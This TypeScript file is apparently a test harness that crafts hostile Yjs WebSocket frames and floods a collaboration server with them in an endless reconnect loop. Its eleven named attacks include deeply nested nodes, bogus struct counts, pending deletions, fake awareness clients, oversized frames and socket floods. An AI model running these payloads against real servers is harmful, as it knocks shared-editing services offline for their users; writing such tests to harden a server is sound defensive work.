import { fileURLToPath } from 'node:url';
import * as encoding from 'lib0/encoding';
import { WebSocket } from 'ws';
import * as Y from 'yjs';

/** What an attacker's process is told, as JSON in its first argument. */
export interface AttackOrder {
  readonly name: string;
  /** Where it connects, its credential included. */
  readonly url: string;
}

const frame = (type: number, step: number, payload: Uint8Array): Uint8Array => {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, type);
  if (type === 0) encoding.writeVarUint(encoder, step);
  encoding.writeVarUint8Array(encoder, payload);
  return encoding.toUint8Array(encoder);
};
const update = (bytes: Uint8Array): Uint8Array => frame(0, 2, bytes);

function made(change: (doc: Y.Doc) => void, before?: (doc: Y.Doc) => void): Uint8Array {
  const doc = new Y.Doc();
  before?.(doc);
  const known = Y.encodeStateVector(doc);
  doc.transact(() => change(doc));
  return Y.encodeStateAsUpdate(doc, known);
}

function orphan(index: number): Uint8Array {
  return update(
    made(
      (doc) => doc.getText('t').insert(6, `orphan ${index}`),
      (doc) => doc.getText('t').insert(0, 'parent that stays at home'),
    ),
  );
}

function nest(levels: number): Uint8Array {
  return made((doc) => {
    let parent: Y.XmlFragment = doc.getXmlFragment('default');
    for (let level = 0; level < levels; level++) {
      const element = new Y.XmlElement('blockquote');
      parent.insert(0, [element]);
      parent = element;
    }
  });
}

function ghosts(count: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, count);
  for (let client = 1; client <= count; client++) {
    encoding.writeVarUint(encoder, client);
    encoding.writeVarUint(encoder, 1);
    encoding.writeVarString(encoder, '{}');
  }
  return frame(1, 0, encoding.toUint8Array(encoder));
}

/** Deletions of what was never written: Yjs tries those that wait again with every update. */
function deletionsAhead(count: number): Uint8Array {
  const encoder = encoding.createEncoder();
  for (const value of [0, 1, 4711, count]) encoding.writeVarUint(encoder, value);
  for (let range = 0; range < count; range++) for (const value of [2 * range, 1]) encoding.writeVarUint(encoder, value);
  return update(encoding.toUint8Array(encoder));
}

/** Letters of as many clients, all at the same place: each is compared with those before it. */
function crowdAtOnePlace(clients: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, clients);
  for (let client = clients; client > 0; client--) {
    for (const value of [1, client, 0]) encoding.writeVarUint(encoder, value);
    encoding.writeUint8(encoder, 4);
    encoding.writeVarUint(encoder, 1);
    encoding.writeVarString(encoder, 't');
    encoding.writeVarString(encoder, 'x');
  }
  encoding.writeVarUint(encoder, 0);
  return update(encoding.toUint8Array(encoder));
}

const typing = (): Uint8Array[] => {
  const doc = new Y.Doc();
  const frames: Uint8Array[] = [];
  doc.on('update', (bytes: Uint8Array) => frames.push(update(bytes)));
  for (let letter = 0; letter < 10_000; letter++) doc.getText('t').insert(letter, 'x');
  return frames;
};
const questions = (): Uint8Array[] =>
  Array.from({ length: 2000 }, (_, index) => frame(0, 0, Y.encodeStateVector(new Map([[index + 1, 1]]))));

/** What each attack sends on a connection, all at once; it connects again as soon as it is sent away. */
const SENDS: Readonly<Record<string, () => Uint8Array[]>> = {
  garbage: () => [new Uint8Array([0xde, 0xad, 0xbe, 0xef])],
  'thirty million structs announced': () => [update(new Uint8Array([1, 0x80, 0x87, 0xa7, 0x0e, 5, 0]))],
  'nodes nested 20,000 deep': () => [update(nest(20_000))],
  '2,000 updates without a parent': () => Array.from({ length: 2000 }, (_, index) => orphan(index)),
  '100,000 deletions ahead': () => [deletionsAhead(100_000)],
  '100,000 ghosts': () => [ghosts(100_000)],
  '10,000 messages a second': typing,
  '2,000 questions, no answer read': questions,
  'a frame over the limit': () => [new Uint8Array(9 * 2 ** 20)],
  '20,000 letters at one place': () => [crowdAtOnePlace(20_000)],
  '1,000 sockets': () => [],
};

export const ATTACKS = Object.keys(SENDS);

const wait = (milliseconds: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function attackOnce(url: string, frames: readonly Uint8Array[], reads: boolean): Promise<void> {
  const socket = new WebSocket(url, { perMessageDeflate: false });
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => {});
  socket.once('open', () => {
    if (!reads) socket.pause();
    for (const each of frames) socket.send(each);
  });
  await Promise.race([closed, wait(1000)]);
  socket.terminate();
  await closed;
}

async function attack({ name, url }: AttackOrder): Promise<void> {
  const frames = (SENDS[name] as () => Uint8Array[])();
  for (;;) {
    if (name === '1,000 sockets') await Promise.all(Array.from({ length: 1000 }, () => attackOnce(url, [], true)));
    else await attackOnce(url, frames, !name.includes('no answer read'));
    await wait(10);
  }
}

// Also read for the names alone.
if (process.argv[1] === fileURLToPath(import.meta.url)) await attack(JSON.parse(process.argv[2] ?? '') as AttackOrder);
